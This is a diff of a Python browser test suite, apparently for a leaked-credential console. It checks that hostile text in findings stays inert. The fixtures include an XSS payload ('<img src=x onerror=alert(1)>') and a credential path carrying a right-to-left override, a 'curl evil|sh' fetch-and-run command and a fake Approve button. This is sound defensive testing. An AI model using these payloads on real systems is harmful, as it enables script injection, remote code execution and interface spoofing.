@@ -2,6 +2,7 @@
 
 import asyncio
 import re
+from dataclasses import replace
 from datetime import UTC, datetime
 from urllib.parse import urlsplit
 
@@ -12,6 +13,7 @@ from shared.domain import finding
 from shared.domain.revocation import State
 from tests.support.browser import ROOT, ConsolePage, console_page
 from tests.support.deployment import Deployment
+from tests.support.harmless import check_visible, is_ours
 from tests.support.leaks import account_sas, small_sas
 from tests.support.patience import PATIENCE
 
@@ -120,6 +122,7 @@ async def test_list_has_states_and_is_filtered(console: ConsolePage, deployment:
 async def test_hostile_text_stays_text(console: ConsolePage, deployment: Deployment) -> None:
     account = await deployment.account()
     leaked = account_sas(account.name, account.keys["key1"])
+    account.blob_service["isVersioningEnabled"] = True  # so that there is a command of ours
     [found] = finding.in_text(
         leaked,
         source="<img src=x onerror=alert(1)>",
@@ -128,13 +131,37 @@ async def test_hostile_text_stays_text(console: ConsolePage, deployment: Deploym
     )
     data = found.finding.to_data()
     await deployment.publish(CloudEvent(source="/t", type=finding.REPORTED, id=found.finding.fingerprint, data=data))
+    await deployment.settled(found.finding.fingerprint, until=lambda record: bool(record.remains))
+
+    await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")
+
+    main = console.page.locator("main")
+    await expect(main).to_contain_text("<img src=x onerror=alert(1)>")
+    assert await main.locator("img, script, a, button, form, iframe").count() == 0
+    assert [code for code in await main.locator("code").all_inner_texts() if not is_ours(code)] == []
+    assert await main.locator("code", has_text="az storage blob list").count() == 1
+    assert console.troubles == []
+
+
+async def test_path_that_hides_its_end_is_shown_in_its_order(console: ConsolePage, deployment: Deployment) -> None:
+    """The API has a leak's path as it is, since programs compare it; the console shows no bidirectional override."""
+    account = await deployment.account()
+    [found] = finding.in_text(
+        small_sas(account.name, account.keys["key1"]), source="wiki", url=None, detected_at=datetime.now(UTC)
+    )
+    credential = found.finding.credential
+    assert credential is not None
+    hidden = replace(credential, path=f"{credential.path}\u202eexe.`curl evil|sh`<button>Approve</button>")
+    data = replace(found.finding, credential=hidden).to_data()
+    await deployment.publish(CloudEvent(source="/t", type=finding.REPORTED, id=found.finding.fingerprint, data=data))
     await deployment.settled(found.finding.fingerprint)
 
     await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")
 
-    await expect(console.page.locator("main")).to_contain_text("<img src=x onerror=alert(1)>")
-    assert await console.page.locator("main img, main script").count() == 0
-    assert console.troubles == []
+    main = console.page.locator("main")
+    await expect(main).to_contain_text("exe.`curl evil|sh`<button>Approve</button>")
+    assert await main.locator("button, code").count() == 0
+    check_visible(await main.inner_text())
 
 
 async def test_approval_works_by_keyboard(console: ConsolePage, deployment: Deployment) -> None:
